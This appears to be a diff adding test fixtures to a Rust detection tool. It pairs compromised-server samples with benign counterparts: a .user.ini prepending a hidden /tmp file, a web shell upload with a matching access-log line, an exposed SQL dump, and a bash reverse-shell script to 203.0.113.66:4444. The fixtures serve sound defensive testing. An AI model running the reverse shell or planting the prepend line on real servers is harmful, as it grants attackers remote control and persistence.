@@ -200,6 +200,28 @@ fn fixture(id: &str) -> Option<Case> {
             vec![file("/var/www/html/uploads/img.php", &webshell)],
             vec![file("/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['q'] ?? 'hello'); ?>\n")],
         ),
+        "linux.web.tampering" => case(
+            vec![file("/var/www/html/.user.ini", "auto_prepend_file=/tmp/.cache.png\n")],
+            vec![file("/var/www/html/.user.ini", "upload_max_filesize=8M\n")],
+        ),
+        "linux.web.dump" => case(
+            vec![file("/var/www/html/backup.sql", "-- MySQL dump 10.13  Distrib 8.0.35\n-- Server version\t8.0.35\n")],
+            vec![file("/var/www/html/install.sql", "CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\n")],
+        ),
+        "linux.web.access" => case(
+            vec![
+                file("/var/www/html/uploads/img.php", &webshell),
+                file("/var/log/nginx/access.log", "203.0.113.66 - - [20/Nov/2026:03:10:02 +0000] \"POST /uploads/img.php HTTP/1.1\" 200 31 \"-\" \"curl/8.0\"\n"),
+            ],
+            vec![
+                file("/var/www/html/index.php", "<?php echo 1; ?>\n"),
+                file("/var/log/nginx/access.log", "198.51.100.4 - - [20/Nov/2026:03:10:02 +0000] \"GET /index.php HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n"),
+            ],
+        ),
+        "linux.files.malware" => case(
+            vec![file("/tmp/.x/r.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n")],
+            vec![file("/tmp/notes.txt", "bash is a shell; /dev/tcp is a bash feature\n")],
+        ),
         _ => return None,
     })
 }
